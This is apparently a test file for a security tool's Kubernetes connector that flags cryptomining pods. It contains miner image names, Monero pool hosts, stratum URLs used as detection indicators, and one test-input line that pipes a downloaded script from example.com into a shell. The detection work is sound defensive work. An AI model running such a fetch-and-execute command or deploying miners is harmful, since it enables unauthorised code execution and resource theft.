import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import fc from 'fast-check';

import { hostsIn, imageRepository, isKnownMinerImage } from '#src/connectors/kubernetes/miner-indicators.js';
import { kubernetesParsers } from '#src/connectors/kubernetes/index.js';
import { parseKubernetesPods } from '#src/connectors/kubernetes/pods.parser.js';
import { PayloadValidationError, SIGNAL_KINDS, type ParseContext, type Signal, type ValidationIssue } from '#src/connectors/signal.js';
import { readFixture } from '../../../support/fixtures.js';

const EKS = { provider: 'aws', accountId: '121212121212', region: 'eu-west-1', cluster: 'payments-prod' };
const GKE = { provider: 'gcp', accountId: 'acme-ml-training', region: 'us-central1', cluster: 'batch' };
const AKS_ID =
  '/subscriptions/6f1d2e3c-4b5a-4978-8a9b-0c1d2e3f4a5b/resourceGroups/rg-aks/providers/Microsoft.ContainerService/managedClusters/aks-prod-01';
const AKS = { provider: 'azure', accountId: '6F1D2E3C-4B5A-4978-8A9B-0C1D2E3F4A5B', region: 'West Europe', cluster: AKS_ID };

const ctx = (query: Record<string, string | undefined>): ParseContext => ({ receivedAt: new Date('2026-11-16T03:00:00Z'), query });
const fixture = (name: string) => readFixture<Record<string, any>>(`kubernetes/${name}`);
const ids = (s: Signal) => s.resources.map((r) => [r.type, r.id]);

function issuesOf(body: unknown, query: Record<string, string | undefined>): ValidationIssue[] {
  try {
    parseKubernetesPods(body, ctx(query));
  } catch (error) {
    assert.ok(error instanceof PayloadValidationError, `expected PayloadValidationError, got ${String(error)}`);
    return error.issues;
  }
  assert.fail('expected the payload to be rejected');
}

describe('parseKubernetesPods', () => {
  it('flags the miner pod of a kubectl List on EKS, with its node and cluster, and counts the other as ignored', () => {
    const body = fixture('pods-list-miner-and-normal.json');
    const { signals, ignored } = parseKubernetesPods(body, ctx(EKS));
    assert.equal(ignored, 1);
    const arn = 'arn:aws:eks:eu-west-1:121212121212:cluster/payments-prod';
    const base = { provider: 'aws', accountId: '121212121212', region: 'eu-west-1' };
    assert.deepEqual(signals, [
      {
        source: 'kubernetes',
        sourceId: `${arn}/default/redis-cache-7d9f8b6c5-x2kqp/9c4d7e1a-2b3f-4a5c-8d6e-7f8091a2b3c4`,
        sourceVersion: '00000000000000918273',
        kind: 'workload',
        provider: 'aws',
        accountId: '121212121212',
        region: 'eu-west-1',
        observedAt: '2026-11-16T02:11:40.000Z',
        // Running when listed: seen until the listing arrived.
        observedUntil: '2026-11-16T03:00:00.000Z',
        severity: 'HIGH',
        title: 'Pod default/redis-cache-7d9f8b6c5-x2kqp in cluster payments-prod runs a cryptominer (command /usr/local/bin/xmrig)',
        mining: true,
        resources: [
          { ...base, type: 'k8s.pod', id: `${arn}/default/redis-cache-7d9f8b6c5-x2kqp` },
          { ...base, type: 'k8s.node', id: `${arn}/ip-10-0-12-34.eu-west-1.compute.internal` },
          { ...base, type: 'aws.eks.cluster', id: arn },
        ],
        principal: null,
        cost: null,
        attributes: {
          namespace: 'default',
          pod: 'redis-cache-7d9f8b6c5-x2kqp',
          node: 'ip-10-0-12-34.eu-west-1.compute.internal',
          images: ['docker.io/kinsing/redis-miner:latest'],
          indicators: [
            'command /usr/local/bin/xmrig',
            'args stratum+tcp://pool.supportxmr.com:3333',
            'pool pool.supportxmr.com',
            'args --donate-level',
          ],
          serviceAccount: 'default',
          phase: 'Running',
          uid: '9c4d7e1a-2b3f-4a5c-8d6e-7f8091a2b3c4',
          owner: 'ReplicaSet/redis-cache-7d9f8b6c5',
          hostIP: '10.0.12.34',
          podIP: '10.0.12.77',
          restarts: 0,
          cluster: arn,
          techniques: ['T1496', 'T1610'],
        },
        raw: body['items'][0],
      },
    ]);
  });

  it('reads a PodList as the API returns it (items without kind) and names the GKE cluster as the other GCP sources do', () => {
    const { signals, ignored } = parseKubernetesPods(fixture('podlist-api-gke-xmrig-env-and-kube-dns.json'), ctx(GKE));
    assert.equal(ignored, 1, 'kube-dns');
    const cluster = '//container.googleapis.com/projects/acme-ml-training/locations/us-central1/clusters/batch';
    assert.deepEqual(signals.map(ids), [
      [
        ['k8s.pod', `${cluster}/monitoring/metrics-agent-6c9f7d8b54-q8z2n`],
        ['k8s.node', `${cluster}/gke-batch-default-pool-1a2b3c4d-x7k2`],
        ['gcp.gke.cluster', cluster],
      ],
      [
        ['k8s.pod', `${cluster}/analytics/nightly-report-29371-vx5mp`],
        ['k8s.node', `${cluster}/gke-batch-default-pool-1a2b3c4d-x7k2`],
        ['gcp.gke.cluster', cluster],
      ],
    ]);
    assert.deepEqual(signals[0]!.attributes['indicators'], [
      'known miner image metal3d/xmrig:latest',
      'pool gulf.moneroocean.stream',
      'args --donate-level=1',
      'known miner image docker.io/metal3d/xmrig:latest',
      'known miner image docker.io/metal3d/xmrig@sha256:8e5d7a1c3f9b2e4d6a8c0f1e3b5d7a9c2e4f6b8d0a1c3e5f7b9d1a3c5e7f9b0d',
    ]);
    assert.deepEqual(
      [signals[0]!.sourceVersion, signals[0]!.attributes['owner']],
      ['00000000000048211937', 'ReplicaSet/metrics-agent-6c9f7d8b54'],
    );
    // A pool URL in the environment gives the job away although its image and command are ordinary.
    assert.deepEqual(signals[1]!.attributes['indicators'], ['env WORKER_POOL_URL', 'pool pool.supportxmr.com']);
    assert.deepEqual(
      [signals[1]!.attributes['serviceAccount'], signals[1]!.attributes['owner']],
      ['report-runner', 'Job/nightly-report-29371'],
    );
  });

  it('reads a GKE zonal cluster and a GKE resource name', () => {
    const zonal = parseKubernetesPods(fixture('podlist-api-gke-xmrig-env-and-kube-dns.json'), ctx({ ...GKE, region: 'us-central1-a' }));
    assert.deepEqual(
      [zonal.signals[0]!.region, zonal.signals[0]!.resources.at(-1)!.id],
      ['us-central1', '//container.googleapis.com/projects/acme-ml-training/locations/us-central1-a/clusters/batch'],
    );
    const named = parseKubernetesPods(
      fixture('podlist-api-gke-xmrig-env-and-kube-dns.json'),
      ctx({ ...GKE, cluster: 'projects/acme-ml-training/zones/us-central1/clusters/batch' }),
    );
    assert.equal(
      named.signals[0]!.resources.at(-1)!.id,
      '//container.googleapis.com/projects/acme-ml-training/locations/us-central1/clusters/batch',
    );
  });

  it('names an AKS cluster by its resource id, and a subscription in lower case', () => {
    const { signals } = parseKubernetesPods(fixture('pods-list-miner-and-normal.json'), ctx(AKS));
    const base = { provider: 'azure', accountId: '6f1d2e3c-4b5a-4978-8a9b-0c1d2e3f4a5b', region: 'westeurope' };
    assert.deepEqual(signals[0]!.resources.at(-1), { ...base, type: 'azure.aks.cluster', id: AKS_ID });
    assert.equal(signals[0]!.resources[0]!.id, `${AKS_ID}/default/redis-cache-7d9f8b6c5-x2kqp`);
  });

  it('takes the Pods of a List of several kinds and counts the rest as ignored', () => {
    const { signals, ignored } = parseKubernetesPods(fixture('list-get-all-minerboy.json'), ctx(EKS));
    assert.equal(ignored, 2, 'the Service and the Deployment');
    assert.deepEqual(signals[0]!.attributes['indicators'], [
      'known miner image minerboy/cache-warmer:2.1',
      'known miner image docker.io/minerboy/cache-warmer:2.1',
      'known miner image docker.io/minerboy/cache-warmer@sha256:6e8a0c2e4b6d8f0a2c4e6b8d0f2a4c6e8b0d2f4a6c8e0b2d4f6a8c0e2b4d6f8a',
    ]);
  });

  it('ignores an ordinary pod printed alone (kubectl get pod -o json on AKS)', () => {
    assert.deepEqual(parseKubernetesPods(fixture('pod-kubectl-aks-buck.json'), ctx(AKS)), { signals: [], ignored: 1 });
  });

  it('a later listing of the same pod updates it; the same listing again is a duplicate', () => {
    const body = fixture('podlist-api-gke-xmrig-env-and-kube-dns.json');
    const first = parseKubernetesPods(body, ctx(GKE)).signals[0]!;
    assert.equal(parseKubernetesPods(body, ctx(GKE)).signals[0]!.sourceVersion, first.sourceVersion);
    body['items'][0].metadata.resourceVersion = '48299001';
    const later = parseKubernetesPods(body, ctx(GKE)).signals[0]!;
    assert.equal(later.sourceId, first.sourceId);
    assert.ok(later.sourceVersion > first.sourceVersion);
  });

  it('names every missing or inconsistent query parameter', () => {
    const body = fixture('pods-list-miner-and-normal.json');
    assert.deepEqual(
      issuesOf(body, {}).map((i) => [i.index, i.field]),
      [
        [null, 'query.provider'],
        [null, 'query.accountId'],
        [null, 'query.region'],
        [null, 'query.cluster'],
      ],
    );
    assert.deepEqual(issuesOf(body, { ...EKS, provider: 'oci' }), [
      {
        index: null,
        field: 'query.provider',
        message: 'must be aws, azure or gcp, got "oci": pod lists do not say which cloud they come from',
      },
    ]);
    assert.deepEqual(issuesOf(body, { ...EKS, cluster: 'arn:aws:eks:eu-west-1:999999999999:cluster/payments-prod' }), [
      { index: null, field: 'query.cluster', message: 'names account 999999999999, but accountId is 121212121212' },
    ]);
    assert.deepEqual(
      issuesOf(body, { ...AKS, cluster: 'aks-prod-01' }).map((i) => i.field),
      ['query.cluster'],
    );
    assert.deepEqual(
      issuesOf(body, { ...GKE, cluster: 'Batch_1' }).map((i) => i.field),
      ['query.cluster'],
    );
  });

  it('names every bad pod and field, and rejects the whole body', () => {
    assert.deepEqual(issuesOf(fixture('pods-list-malformed.json'), EKS), [
      {
        index: 0,
        field: '/items/0/metadata/creationTimestamp',
        message: 'must be an ISO 8601 date or date-time with a zone, e.g. 2024-01-31T12:00:00Z',
      },
      { index: 1, field: '/items/1/spec/containers', message: 'is required' },
      { index: 2, field: '/items/2/metadata/name', message: 'is required' },
      { index: 2, field: '/items/2/spec/containers/0/args/1', message: 'must be a string' },
    ]);
    assert.deepEqual(issuesOf({ kind: 'Deployment' }, EKS), [
      {
        index: null,
        field: '/kind',
        message: 'expected kubectl output: a List or PodList with items, or a Pod (kubectl get pods -o json)',
      },
    ]);
  });

  it('throws nothing but PayloadValidationError on arbitrary JSON', () => {
    const pod = fc.record({
      kind: fc.constantFrom('Pod', undefined, 'Service'),
      metadata: fc.oneof(
        fc.anything(),
        fc.record({
          name: fc.jsonValue(),
          namespace: fc.jsonValue(),
          creationTimestamp: fc.oneof(fc.constant('2026-11-16T02:11:40Z'), fc.jsonValue()),
          resourceVersion: fc.jsonValue(),
        }),
      ),
      spec: fc.oneof(
        fc.anything(),
        fc.record({
          nodeName: fc.jsonValue(),
          containers: fc.array(
            fc.record({
              name: fc.jsonValue(),
              image: fc.oneof(fc.constantFrom('metal3d/xmrig', 'minerboy/x', 'nginx'), fc.jsonValue()),
              command: fc.oneof(fc.array(fc.string()), fc.jsonValue()),
              args: fc.oneof(
                fc.array(fc.oneof(fc.string(), fc.constantFrom('stratum+tcp://pool.supportxmr.com:3333', '--donate-level=1'))),
                fc.jsonValue(),
              ),
              env: fc.oneof(
                fc.array(fc.record({ name: fc.string(), value: fc.oneof(fc.string(), fc.constant('pool.supportxmr.com')) })),
                fc.jsonValue(),
              ),
            }),
            { maxLength: 3 },
          ),
        }),
      ),
      status: fc.oneof(
        fc.anything(),
        fc.record({ phase: fc.constantFrom('Running', 'Succeeded'), startTime: fc.jsonValue(), containerStatuses: fc.jsonValue() }),
      ),
    });
    const bodies = fc.oneof(
      fc.anything(),
      fc.jsonValue(),
      pod,
      fc.record({ kind: fc.constantFrom('List', 'PodList'), items: fc.oneof(fc.array(pod, { maxLength: 4 }), fc.jsonValue()) }),
    );
    const queries = fc.oneof(
      fc.constant(EKS),
      fc.constant(GKE),
      fc.constant(AKS),
      fc.dictionary(fc.constantFrom('provider', 'accountId', 'region', 'cluster'), fc.string()),
    );
    fc.assert(
      fc.property(bodies, queries, (body, query) => {
        try {
          const { signals, ignored } = kubernetesParsers['kubernetes']!(body, ctx(query));
          assert.ok(Number.isInteger(ignored) && ignored >= 0);
          for (const s of signals) {
            assert.ok(SIGNAL_KINDS.includes(s.kind) && s.mining && s.accountId.length > 0);
            assert.ok(s.observedUntil >= s.observedAt);
          }
        } catch (error) {
          if (!(error instanceof PayloadValidationError)) throw error;
          assert.ok(error.issues.length > 0);
        }
      }),
      { numRuns: 500 },
    );
  });
});

describe('miner indicators', () => {
  it('reads image repositories without registry, tag or digest', () => {
    assert.deepEqual(
      [
        'docker.io/library/nginx:1.27',
        'registry-1.docker.io/metal3d/xmrig@sha256:abc',
        'docker-pullable://brigadecore/buck@sha256:03',
        'localhost:5000/team/app:v1',
        'ghcr.io/org/app',
      ].map(imageRepository),
      ['nginx', 'metal3d/xmrig', 'brigadecore/buck', 'localhost:5000/team/app', 'ghcr.io/org/app'],
    );
    assert.deepEqual(['metal3d/xmrig:latest', 'minerboy/anything', 'metal3d/xmrig-proxy', 'notminerboy/x'].map(isKnownMinerImage), [
      true,
      true,
      false,
      false,
    ]);
  });

  it('finds host names in command lines, URLs and scripts', () => {
    assert.deepEqual(hostsIn('-o pool.supportxmr.com:443'), ['pool.supportxmr.com']);
    assert.deepEqual(hostsIn('--url=stratum+ssl://wallet.worker@gulf.moneroocean.stream:20128'), ['gulf.moneroocean.stream']);
    assert.deepEqual(hostsIn('curl -s https://example.com/x.sh | sh; ./run --threads 4 1.2'), ['example.com']);
  });
});
